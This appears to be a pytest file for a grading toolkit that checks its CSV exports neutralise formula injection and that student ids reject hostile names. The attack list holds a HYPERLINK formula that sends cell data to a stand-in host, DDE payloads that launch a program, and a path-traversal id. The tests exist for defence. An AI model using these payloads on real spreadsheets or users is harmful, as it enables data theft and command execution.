"""Exports are safe to open in a spreadsheet (OWASP's rule against CSV injection), and student ids taken
from file names or rosters are checked against an allow-list of characters.

A hostile student controls a file name, every answer and (through the LMS) perhaps a display name; none of
them may reach a CSV cell that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from alliancekit import cli
from alliancekit.grading import csvsafe, exports, roster, sandbox
from alliancekit.grading.gradebook import Gradebook

from .test_grading import EXERCISE, make_submission, rows_of

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
WORDS = " ".join(["evidence"] * 70)


def formula_cells(path: Path) -> list[str]:
    """Every cell of a CSV that a spreadsheet would read as a formula."""
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row if c.startswith(csvsafe.TRIGGERS)]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_starting_a_formula_is_written_as_text_and_reads_back(text):
    safe = csvsafe.cell(text)
    assert safe == "'" + text and not safe.startswith(csvsafe.TRIGGERS)
    assert csvsafe.unescape(safe) == text
    assert csvsafe.cell("plain words") == "plain words" and csvsafe.cell(12.5) == "12.5"


def test_the_checker_finds_a_formula_in_an_unprotected_file(tmp_path):
    raw = tmp_path / "raw.csv"
    with open(raw, "w", newline="") as f:
        csv.writer(f).writerows([["student_id", "answer"], ["mal", ATTACKS[0]]])
    assert formula_cells(raw) == [ATTACKS[0]]


@pytest.mark.parametrize("name", ["=HYPERLINK(evil)", "+cmd", "-1", "@SUM(1)", "../../etc/passwd", "a b", ""])
def test_ids_outside_the_allow_list_are_refused(name):
    assert not roster.valid_id(name)


def test_a_roster_with_a_formula_for_an_id_is_refused_with_its_line(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("student_id,name\nada,Ada\n=cmd|calc,Mallory\n")
    with pytest.raises(roster.RosterError, match="line 3"):
        roster.read(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A small class with hostile file names and answers, graded and exported to every CSV the kit writes."""
    work = tmp_path_factory.mktemp("hostile")
    subs = work / "subs"
    subs.mkdir()
    make_submission(subs / "ok.ipynb", {}, [])
    make_submission(subs / "mal.ipynb", {"q6": f"q6 = {ATTACKS[0] + ' ' + WORDS!r}", "q3": f"q3 = {ATTACKS[3]!r}"}, [])
    make_submission(subs / "tab.ipynb", {"q6": f"q6 = {ATTACKS[4] + ' ' + WORDS!r}"}, [])
    for name in ('=HYPERLINK("evil")', "@SUM(1)", "-2+3"):
        make_submission(subs / f"{name}.ipynb", {}, [], student_id="x")
    out = work / "grades.csv"
    flags = [] if sandbox.probe() is None else ["--no-isolation"]
    assert cli.main(["grade", EXERCISE, str(subs), "--out", str(out), "--canvas", str(work / "canvas.csv"),
                     "--moodle", str(work / "moodle.csv"), "--quiet", *flags]) == 0
    written = work / "written.csv"
    assert cli.main(["written", EXERCISE, "--gradebook", str(work / "gradebook.sqlite"), "--out", str(written)]) == 0
    return {"work": work, "out": out, "written": written}


def test_no_csv_the_kit_writes_holds_a_formula(hostile):
    work = hostile["work"]
    files = [hostile["out"], work / "grades_long.csv", work / "canvas.csv", work / "moodle.csv", hostile["written"]]
    for path in files:
        assert path.exists() and formula_cells(path) == [], path.name
    # the attack really is in the files, as text
    text = hostile["written"].read_text()
    assert "'=HYPERLINK(" in text and "'\t=1+1" in text


def test_a_rejected_file_name_gets_a_row_that_names_it(hostile):
    rows = rows_of(hostile["out"])
    rejected = {sid: r for sid, r in rows.items() if r["status"] == "rejected file name"}
    assert len(rejected) == 3 and all(sid.startswith("file-") for sid in rejected)
    notes = " ".join(r["note"] for r in rejected.values())
    assert "HYPERLINK" in notes and "@SUM(1).ipynb" in notes and "-2+3.ipynb" in notes
    assert rows["ok"]["score"] == "14"  # the honest student is untouched


def test_the_written_export_would_carry_the_formula_without_the_defence(hostile, monkeypatch, tmp_path):
    """The defence switched off: the same export holds a live formula (so the test above can fail)."""
    from alliancekit.grading.assignment import settings

    monkeypatch.setattr(csvsafe, "cell", lambda value: "" if value is None else str(value))
    book = Gradebook(hostile["work"] / "gradebook.sqlite")
    exports.write_written(book, EXERCISE, settings(EXERCISE).questions, tmp_path / "unsafe.csv")
    book.close()
    assert formula_cells(tmp_path / "unsafe.csv")


def test_marks_come_back_from_a_file_with_escaped_cells(hostile, tmp_path):
    """A marker's comment starting with '-' round-trips as the comment they typed."""
    rows = list(csv.DictReader(open(hostile["written"], newline="")))
    header = next(h for h in rows[0] if h.startswith("q6: cites"))
    for r in rows:
        r[header], r["comment"] = "1", "'- needs a second event"
    marks = tmp_path / "marks.csv"
    with open(marks, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    book = tmp_path / "gradebook.sqlite"
    book.write_bytes((hostile["work"] / "gradebook.sqlite").read_bytes())
    assert cli.main(["rubric", EXERCISE, str(marks), "--gradebook", str(book), "--out", str(tmp_path / "g.csv")]) == 0
    feedback = (tmp_path / "g_feedback" / "mal.md").read_text()
    assert "Comment: - needs a second event" in feedback
    assert json.dumps(formula_cells(tmp_path / "g.csv")) == "[]"
